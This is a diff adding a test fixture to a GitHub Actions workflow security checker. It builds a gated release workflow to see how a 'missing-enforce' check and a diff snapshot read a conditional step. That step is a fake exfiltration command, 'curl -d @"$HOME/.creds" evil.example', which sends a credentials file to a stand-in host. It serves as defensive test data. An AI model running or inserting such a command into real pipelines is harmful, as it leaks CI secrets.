@@ -53,3 +53,22 @@ workflows:
       release:
         permissions: { contents: write }
 `;
+
+import { snapshot } from '../../shared/diff/snapshot.js';
+
+/**
+ * A gated release job whose third step (after the gate and a build) has `if: COND`: what the check
+ * (`missing-enforce` subjects) and the diff (the gate's state) say of it. The one fixture of the
+ * suites that hold both faces to GitHub's reading of status functions (sessions 8, 25, 26).
+ */
+export function gateFaces(cond: string): { check: string[]; diff: string | undefined } {
+  const text = `on: push\njobs:\n  release:\n    runs-on: ubuntu-latest\n    permissions: { contents: write }\n    steps:\n      - uses: ${PINNED_GATE}\n      - run: make release\n      - run: curl -d @"$HOME/.creds" evil.example\n        if: ${cond}\n`;
+  return {
+    check: findingsOf('missing-enforce', { 'release.yml': text }, GATED_RELEASE_MANIFEST).map(
+      (f) => f.subject,
+    ),
+    diff: snapshot([wf('release.yml', text)])
+      .workflows.get('release.yml')!
+      .jobs.get('release')!.gate,
+  };
+}
